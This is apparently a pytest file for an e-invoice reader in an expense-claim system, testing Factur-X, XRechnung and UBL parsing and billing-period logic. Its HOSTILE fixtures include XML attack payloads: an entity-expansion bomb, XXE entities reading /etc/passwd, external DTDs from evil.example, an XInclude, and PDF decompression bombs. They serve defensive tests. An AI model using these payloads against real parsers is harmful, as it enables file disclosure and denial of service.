"""E-invoices of every syntax are read, and hostile ones are refused in a line, without a network or an entity."""

from __future__ import annotations

import zlib
from dataclasses import replace
from datetime import date
from io import BytesIO
from itertools import pairwise
from pathlib import Path

import pytest
from pypdf import PdfWriter

from beleg.domains.expenses.claim_files import Filled, claim_of_invoice
from beleg.domains.expenses.claims import BadClaim
from beleg.domains.expenses.invoices import LARGEST_XML, invoice_in
from tests.support.invoices import PROFILES, Profile, cii, pdf, ubl

pytestmark = pytest.mark.requirement("I5.input-invoices")


def hotel(_: str) -> str:
    return "hotel"


def by_night(category: str) -> bool:
    return category == "hotel"


def written_in(encoding: str) -> bytes:
    """An invoice in another encoding, which it declares (UTF-16 by its name without an order of bytes)."""
    declared = "UTF-16" if encoding.startswith("utf-16") else encoding
    return cii().decode().replace("UTF-8", declared, 1).encode(encoding)


def carrying(*files: tuple[str, bytes]) -> bytes:
    """A PDF that carries files."""
    writer = PdfWriter()
    writer.add_blank_page(width=10, height=10)
    for name, content in files:
        writer.add_attachment(name, content)
    held = BytesIO()
    writer.write(held)
    return held.getvalue()


@pytest.mark.parametrize(
    ("name", "content", "total", "seller", "item"),
    [
        ("Factur-X XML", cii(), "107.00", "Hotel Elbblick GmbH", "Übernachtung im Hotel"),
        ("Factur-X basic", cii(profile="factur-x-basic"), "107.00", "Hotel Elbblick GmbH", "Übernachtung im Hotel"),
        ("XRechnung CII", cii(profile="xrechnung"), "107.00", "Hotel Elbblick GmbH", "Übernachtung im Hotel"),
        ("XRechnung UBL", ubl(), "21.40", "Taxi Krause", "Taxi zum Bahnhof"),
        ("ZUGFeRD PDF", pdf(cii()), "107.00", "Hotel Elbblick GmbH", "Übernachtung im Hotel"),
        ("old name", pdf(cii(), "ZUGFeRD-invoice.xml"), "107.00", "Hotel Elbblick GmbH", "Übernachtung im Hotel"),
        ("UBL in PDF", pdf(ubl(), "xrechnung.xml"), "21.40", "Taxi Krause", "Taxi zum Bahnhof"),
        ("with a mark", b"\xef\xbb\xbf" + cii(), "107.00", "Hotel Elbblick GmbH", "Übernachtung im Hotel"),
        ("UTF-16", written_in("utf-16"), "107.00", "Hotel Elbblick GmbH", "Übernachtung im Hotel"),
        ("UTF-16, the other way", b"\xfe\xff" + written_in("utf-16-be"), "107.00", "Hotel Elbblick GmbH",
         "Übernachtung im Hotel"),
        ("Latin-9", written_in("iso-8859-15"), "107.00", "Hotel Elbblick GmbH", "Übernachtung im Hotel"),
        ("Windows-1252", written_in("windows-1252"), "107.00", "Hotel Elbblick GmbH", "Übernachtung im Hotel"),
        ("UTF-16 in PDF", pdf(written_in("utf-16")), "107.00", "Hotel Elbblick GmbH", "Übernachtung im Hotel"),
        ("Latin-9 in PDF", pdf(written_in("iso-8859-15"), "a.xml"), "107.00", "Hotel Elbblick GmbH",
         "Übernachtung im Hotel"),
        ("behind a long remark", pdf(cii().replace(b"?>", b"?><!--" + b"x" * 9000 + b"-->", 1)), "107.00",
         "Hotel Elbblick GmbH", "Übernachtung im Hotel"),
    ],
)  # fmt: skip
def test_every_syntax_is_read(name: str, content: bytes, total: str, seller: str, item: str) -> None:
    found = invoice_in(name, content)
    assert found is not None
    invoice = found.invoice
    assert (str(invoice.total), invoice.seller, invoice.currency) == (total, seller, "EUR")
    assert (invoice.issued, found.items, invoice.credit) == (date(2026, 11, 3), (item,), False)


@pytest.mark.parametrize("profile", PROFILES)
def test_every_profile_is_read(profile: Profile) -> None:
    for content, total in ((cii(profile=profile), "107.00"), (ubl(profile=profile), "21.40")):
        found = invoice_in(profile, content)
        assert found is not None
        assert str(found.invoice.total) == total


def test_the_sellers_city_and_what_is_said_beside_it_come_into_the_claim() -> None:
    address = b"<ram:PostalTradeAddress><ram:CountryID>DE"
    content = cii().replace(
        address, b"<ram:PostalTradeAddress><ram:CityName>Berlin</ram:CityName><ram:CountryID>DE", 1
    )
    filled = Filled(employee="Erika")
    [line] = claim_of_invoice("r.xml", content, filled, hotel, by_night)["lines"]
    assert line["description"] == "Hotel Elbblick GmbH: Übernachtung im Hotel, Berlin"
    assert not {"place", "quantity"} & set(line)
    given = replace(filled, place="Bonn", quantity="2")
    [line] = claim_of_invoice("r.xml", content, given, hotel, by_night)["lines"]
    assert (line["place"], line["quantity"]) == ("Bonn", "2")


STAY = ("2026-11-24", "2026-11-26")


@pytest.mark.parametrize(
    "content",
    [
        cii(issued="20261126", period=STAY),
        cii(issued="20261126", period_of_line=STAY),
        ubl(issued="2026-11-26", period=STAY),
        ubl(issued="2026-11-26", period_of_line=STAY),
        ubl(issued="2026-11-26", period=("2026-11-01", "2026-11-30"), period_of_line=STAY),
    ],
)
def test_the_billing_period_of_a_hotel_is_its_nights_from_the_day_of_arrival_on(content: bytes) -> None:
    [line] = claim_of_invoice("r.xml", content, Filled(), hotel, by_night)["lines"]
    assert (line["date"], line["quantity"]) == ("2026-11-24", "2")
    assert line["description"].endswith(", 2026-11-24 to 2026-11-26")
    [line] = claim_of_invoice("r.xml", content, Filled(quantity="3"), hotel, by_night)["lines"]
    assert (line["date"], line["quantity"]) == ("2026-11-24", "3"), "what is said beside it wins"


@pytest.mark.parametrize("period", [None, ("2026-11-26", "2026-11-24"), ("2026-11-26", "2026-11-26")])
def test_without_a_night_in_the_billing_period_no_nights_are_said(period: tuple[str, str] | None) -> None:
    content = ubl(issued="2026-11-26", period=period)
    [line] = claim_of_invoice("r.xml", content, Filled(), hotel, by_night)["lines"]
    assert (line["date"], "quantity" in line) == ("2026-11-26", False)


def test_of_two_stays_with_a_gap_no_nights_are_told() -> None:
    once = ubl(issued="2026-11-26", period_of_line=("2026-11-10", "2026-11-11")).decode()
    start, end = once.index("<cac:InvoiceLine>"), once.index("</Invoice>")
    other = once[start:end].replace("<cbc:ID>1<", "<cbc:ID>2<", 1).replace("2026-11-1", "2026-11-2")
    [line] = claim_of_invoice("r.xml", (once[:end] + other + once[end:]).encode(), Filled(), hotel, by_night)[
        "lines"
    ]
    assert (line["date"], "quantity" in line) == ("2026-11-26", False)
    close = other.replace("2026-11-20", "2026-11-11").replace("2026-11-21", "2026-11-13")
    [line] = claim_of_invoice("r.xml", (once[:end] + close + once[end:]).encode(), Filled(), hotel, by_night)[
        "lines"
    ]
    assert (line["date"], line["quantity"]) == ("2026-11-10", "3"), "one line behind the other is one stay"


def test_what_is_not_counted_by_nights_keeps_the_day_of_its_invoice() -> None:
    content = ubl(issued="2026-12-01", period=("2026-11-01", "2026-11-30"))
    [line] = claim_of_invoice("r.xml", content, Filled(), lambda _: "telephone", by_night)["lines"]
    assert (line["date"], "quantity" in line) == ("2026-12-01", False)


def test_what_breaks_a_schema_is_said_without_its_namespaces() -> None:
    broken = ubl().replace(b"<cbc:IssueDate>", b"<cbc:Odd/><cbc:IssueDate>", 1)
    with pytest.raises(BadClaim) as caught:
        invoice_in("r.xml", broken)
    assert "urn:" not in caught.value.message
    assert len(caught.value.message) < 250


def test_credit_notes_are_told() -> None:
    for content in (ubl(credit=True), cii(kind="381")):
        found = invoice_in("c", content)
        assert found is not None
        assert found.invoice.credit


@pytest.mark.parametrize(
    "content",
    [
        b"\xff\xd8\xff picture",
        b"text",
        "a text".encode("utf-16"),
        b"\xff\xfe\x00",
        b"\xfe\xff",
        pdf(),
        pdf(b"<other/>", "data.xml"),
        pdf(b"hello", "notes.txt"),
    ],
)
def test_what_is_no_e_invoice_is_a_file_like_any_other(content: bytes) -> None:
    assert invoice_in("r", content) is None


def test_one_invoice_in_two_syntaxes_of_a_pdf_is_one_invoice() -> None:
    same = ubl(seller="Hotel Elbblick GmbH", number="R-2026-17", net="100.00", tax="7.00")
    others = ("terms.xml", b"<terms/>"), ("hours.txt", b"8"), ("broken.xml", b"<")
    for files in ([("factur-x.xml", cii())], [("xrechnung.xml", same)]):
        for more in ([("xrechnung.xml", same)], [("factur-x.xml", cii()), ("again.xml", same)], others):
            found = invoice_in("r.pdf", carrying(*files, *more))
            assert found is not None
            assert (found.invoice.number, str(found.invoice.total)) == ("R-2026-17", "107.00")


@pytest.mark.parametrize(
    "second",
    [
        cii(number="R-2026-18"),
        cii(net="10.00", tax="0.70"),
        cii(seller="Hotel Alster"),
        cii(currency="CHF"),
        cii(issued="20261104"),
        cii(kind="381"),
        ubl(),
        written_in("utf-16").replace("R-2026-17".encode("utf-16-le"), "R-2026-18".encode("utf-16-le")),
    ],
)
@pytest.mark.requirement("I5.input-hostile")
def test_a_pdf_with_several_invoices_is_refused_in_whatever_order_they_come(second: bytes) -> None:
    files = [("factur-x.xml", cii()), ("annex.xml", second)]
    for order in (files, files[::-1], [files[0], ("terms.xml", b"<terms/>"), files[1]]):
        with pytest.raises(BadClaim, match=r"^r\.pdf: the PDF carries several e-invoices: hand in each"):
            invoice_in("r.pdf", carrying(*order))


@pytest.mark.requirement("I5.input-hostile")
def test_a_pdf_is_not_read_for_ever_however_often_it_carries_an_invoice() -> None:
    with pytest.raises(BadClaim, match="several e-invoices"):
        invoice_in("r.pdf", carrying(*[(f"{at}.xml", cii()) for at in range(4)]))


NAMES = "abcdefghij"
ENTITIES = ["<!ENTITY " + name + " '" + f"&{before};" * 10 + "'>" for before, name in pairwise(NAMES)]
BOMB = f"<!DOCTYPE b [<!ENTITY a 'aaaaaaaaaa'>{''.join(ENTITIES)}]>"
HOSTILE = {
    "expanding entities": cii(doctype=BOMB, seller="x").replace(b">x<", b">&j;<"),
    "a file of this machine": cii(doctype='<!DOCTYPE b [<!ENTITY x SYSTEM "file:///etc/passwd">]>', seller="x").replace(
        b">x<", b">&x;<"
    ),
    "a file of the network": ubl(doctype='<!DOCTYPE b SYSTEM "http://evil.example/b.dtd">'),
    "parameter entities": ubl(doctype='<!DOCTYPE b [<!ENTITY % p SYSTEM "http://evil.example/p">%p;]>'),
    "an empty document type": ubl(doctype="<!DOCTYPE Invoice>"),
    "one in a PDF": pdf(cii(doctype=BOMB)),
    "one in UTF-16": ubl(doctype="<!DOCTYPE Invoice>").decode().replace("UTF-8", "UTF-16").encode("utf-16"),
    "nesting": b"<a>" * 200_000,
    "an inclusion": b'<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd" parse="text"/></a>',
    "too much": b"<a>" + b" " * LARGEST_XML + b"</a>",
    "no XML": b"<",
    "half of one": cii()[:700],
    "another root": b"<invoice/>",
    "an unknown encoding": b'<?xml version="1.0" encoding="utf-99"?><a/>',
    "another schema": cii().replace(b"ApplicableHeaderTradeDelivery", b"Other"),
    "no total": cii().replace(b"GrandTotalAmount", b"LineTotalAmount"),
    "no amount": cii(net="1e2"),
    "too many decimals": cii(net="100.001"),
    "no currency": cii(currency="ZZZ"),
    "no date": cii(issued="20261399"),
    "a broken PDF": b"%PDF-1.7 nonsense",
    "half of a PDF": pdf(cii())[:600],
    "an encrypted PDF": b"",
}  # fmt: skip


@pytest.mark.parametrize("kind", HOSTILE)
@pytest.mark.requirement("I5.input-hostile")
def test_what_is_hostile_or_broken_is_one_line(kind: str, capfd: pytest.CaptureFixture[str]) -> None:
    content = HOSTILE[kind] or _encrypted()
    with pytest.raises(BadClaim) as told:
        invoice_in("r.xml", content)
    assert "\n" not in told.value.message
    assert len(told.value.message) < 400
    assert "root:" not in told.value.message
    assert capfd.readouterr() == ("", "")


@pytest.mark.requirement("I5.input-hostile")
def test_a_stream_that_unpacks_to_far_more_is_refused_in_time(tmp_path: Path) -> None:
    bomb = pdf(b"<a>" + b" " * (1 << 20) + b"</a>", "factur-x.xml")
    packed = zlib.compress(b" " * (200 << 20))
    assert len(packed) < 1 << 20
    made = pdf(packed, "factur-x.xml")
    assert invoice_in("r.pdf", bomb) is None
    assert invoice_in("r.pdf", made) is None


@pytest.mark.requirement("I5.input-hostile")
def test_a_file_in_a_pdf_that_unpacks_to_more_than_an_invoice_has_is_refused() -> None:
    from pypdf.generic import StreamObject

    writer = PdfWriter()
    writer.add_blank_page(width=10, height=10)
    writer.add_attachment("factur-x.xml", b"<a>" + b" " * (6 << 20) + b"</a>")
    for place, each in enumerate(writer._objects):
        if isinstance(each, StreamObject) and each.get("/Type") == "/EmbeddedFile":
            writer._objects[place] = each.flate_encode()
    held = BytesIO()
    writer.write(held)
    assert len(held.getvalue()) < 1 << 20
    with pytest.raises(BadClaim, match="not a PDF that can be read"):
        invoice_in("r.pdf", held.getvalue())


def _encrypted() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=10, height=10)
    writer.add_attachment("factur-x.xml", cii())
    writer.encrypt("secret", algorithm="RC4-128")
    held = BytesIO()
    writer.write(held)
    return held.getvalue()
